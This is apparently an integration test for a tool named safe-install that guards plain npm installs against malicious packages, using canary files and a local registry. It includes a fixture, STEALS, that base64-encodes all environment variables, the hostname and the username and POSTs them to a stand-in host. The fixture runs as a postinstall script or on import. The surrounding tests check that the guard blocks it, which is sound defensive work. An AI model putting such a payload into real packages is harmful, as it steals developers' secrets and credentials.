/**
 * `safe-install init`, with the real npm and the bundled model: a colleague runs plain npm in a hooked project, against a
 * registry in this process. Canary files prove what ran and what did not.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { TestRegistry } from '../helpers/registry.js';

const PROJECT = fileURLToPath(new URL('../../../', import.meta.url));

/** Steals the environment while installing; the canary shows that it ran. */
const STEALS = `const fs = require('fs');
const os = require('os');
const https = require('https');
fs.writeFileSync(process.env.CANARY_FOLDER + '/thief', '');
const data = Buffer.from(JSON.stringify({ env: process.env, host: os.hostname(), user: os.userInfo().username })).toString('base64');
const request = https.request({ hostname: 'host.invalid', path: '/collect', method: 'POST' });
request.on('error', () => {});
request.end(data);
`;
const HONEST = `require('fs').writeFileSync(process.env.CANARY_FOLDER + '/honest', '');`;

describe('project hook, with the real npm', () => {
  let registry: TestRegistry;
  let root: string;
  const at = (...names: string[]) => path.join(root, ...names);

  before(async () => {
    registry = await new TestRegistry().start();
    const scripts = { postinstall: 'node install.js' };
    registry.publish(
      { name: 'thief', version: '1.0.0', scripts },
      { files: { 'install.js': STEALS, 'index.js': '' } },
    );
    registry.publish(
      { name: 'honest', version: '1.0.0', scripts },
      { files: { 'install.js': HONEST, 'index.js': '' } },
    );
    registry.publish(
      { name: 'thief-at-import', version: '1.0.0', main: 'index.js' },
      { files: { 'index.js': STEALS } },
    );
  });
  after(() => registry.stop());
  beforeEach(() => {
    root = mkdtempSync(path.join(os.tmpdir(), 'project-hook-'));
    for (const name of ['project', 'home', 'bin', 'canary', 'empty']) mkdirSync(at(name));
    symlinkSync(path.join(PROJECT, 'bin/safe-install.js'), at('bin', 'safe-install'));
    symlinkSync(path.join(PROJECT, 'hooks/script-shell.sh'), at('bin', 'install-safe-install-first'));
    writeFileSync(
      at('home', '.npmrc'),
      `registry=${registry.url}\ncache=${at('cache')}\naudit=false\nfund=false\nupdate-notifier=false\nfetch-retries=0\n`,
    );
  });
  afterEach(() => rmSync(root, { recursive: true, force: true }));

  async function run(command: readonly string[], guard: 'present' | 'absent' = 'present') {
    const tools = `${path.dirname(process.execPath)}:/usr/local/bin:/usr/bin:/bin`;
    const env = {
      PATH: `${guard === 'present' ? at('bin') : at('empty')}:${tools}`,
      HOME: at('home'),
      CANARY_FOLDER: at('canary'),
      TERM: 'dumb',
    };
    const child = spawn(command[0]!, command.slice(1), {
      cwd: at('project'),
      env,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (text: string) => {
      stdout += text;
    });
    child.stderr.setEncoding('utf8').on('data', (text: string) => {
      stderr += text;
    });
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    return { code, stdout, stderr };
  }
  const canaries = () => readdirSync(at('canary')).sort();
  const installed = () =>
    existsSync(at('project', 'node_modules'))
      ? readdirSync(at('project', 'node_modules')).filter((name) => !name.startsWith('.'))
      : [];

  async function project(manifest: Record<string, unknown>, ...init: string[]): Promise<void> {
    writeFileSync(
      at('project', 'package.json'),
      `${JSON.stringify({ name: 'p', version: '1.0.0', private: true, ...manifest }, undefined, 2)}\n`,
    );
    const { code, stderr } = await run(['safe-install', 'init', ...init]);
    assert.equal(code, 0, stderr);
    assert.match(stderr, /hooked: changed .*package\.json and .*\.npmrc; commit them/);
  }
  /** A lockfile, as someone wrote it before the hook was there. */
  async function lock(): Promise<void> {
    const rc = readFileSync(at('project', '.npmrc'));
    rmSync(at('project', '.npmrc'));
    const made = await run(['npm', 'install', '--package-lock-only', '--ignore-scripts']);
    assert.equal(made.code, 0, made.stderr);
    writeFileSync(at('project', '.npmrc'), rc);
  }

  for (const command of ['install', 'ci']) {
    it(`plain npm ${command}: a thief's script does not run, and nothing stays`, async () => {
      await project({ dependencies: { thief: '1.0.0', honest: '1.0.0' } });
      if (command === 'ci') await lock();
      const result = await run(['npm', command]);
      assert.notEqual(result.code, 0);
      assert.match(result.stderr, /blocked thief@1\.0\.0/);
      assert.deepEqual(canaries(), []);
      assert.deepEqual(installed(), []);
    });
    it(`plain npm ${command}: the honest twin installs and its script runs`, async () => {
      await project({ dependencies: { honest: '1.0.0' } });
      if (command === 'ci') await lock();
      const result = await run(['npm', command]);
      assert.equal(result.code, 0, result.stderr);
      assert.doesNotMatch(result.stderr, /safe-install/, 'quiet when all is well');
      assert.deepEqual(canaries(), ['honest']);
      assert.deepEqual(installed(), ['honest']);
    });
  }

  it('plain npm install NAME: the script does not run', async () => {
    await project({});
    const result = await run(['npm', 'install', 'thief']);
    assert.notEqual(result.code, 0);
    assert.deepEqual(canaries(), []);
    assert.deepEqual(installed(), []);
  });

  it('a package that acts only when imported: npm install fails before anything imports it', async () => {
    await project({ dependencies: { 'thief-at-import': '1.0.0' } });
    const result = await run(['npm', 'install']);
    assert.notEqual(result.code, 0);
    assert.match(result.stderr, /blocked thief-at-import@1\.0\.0/);
    assert.match(result.stderr, /not safe to import/);
    assert.deepEqual(canaries(), []);
  });

  it('guard absent: fails closed, and the line names what to install', async () => {
    await project({ dependencies: { honest: '1.0.0' } });
    const result = await run(['npm', 'install'], 'absent');
    assert.notEqual(result.code, 0);
    assert.match(result.stderr, /spawn install-safe-install-first ENOENT/);
    assert.deepEqual(canaries(), []);
  });

  it('npm run is left alone', async () => {
    await project({ scripts: { hello: 'echo hello from the project' } });
    const result = await run(['npm', 'run', 'hello']);
    assert.equal(result.code, 0, result.stderr);
    assert.match(result.stdout, /^hello from the project$/m);
  });

  for (const options of [[], ['--strict']]) {
    it(`safe-install in a hooked project installs and blocks as elsewhere ${options.join(' ')}`, async () => {
      await project({ dependencies: { honest: '1.0.0' } }, ...options);
      const allowed = await run(['safe-install']);
      assert.equal(allowed.code, 0, allowed.stderr);
      assert.deepEqual(canaries(), ['honest']);
      const before = readFileSync(at('project', 'package.json'), 'utf8');
      const blocked = await run(['safe-install', 'thief']);
      assert.equal(blocked.code, 100, blocked.stderr);
      assert.deepEqual(canaries(), ['honest']);
      assert.deepEqual(installed(), ['honest']);
      assert.equal(readFileSync(at('project', 'package.json'), 'utf8'), before);
    });
  }

  it('--strict: plain npm installs nothing, npm run works', async () => {
    await project({ scripts: { hello: 'echo hello' } }, '--strict');
    const result = await run(['npm', 'install', 'thief-at-import']);
    assert.notEqual(result.code, 0);
    assert.match(result.stderr, /use-safe-install-in-place-of-npm\.invalid/);
    assert.deepEqual(installed(), []);
    assert.equal((await run(['npm', 'run', 'hello'])).code, 0);
  });
});
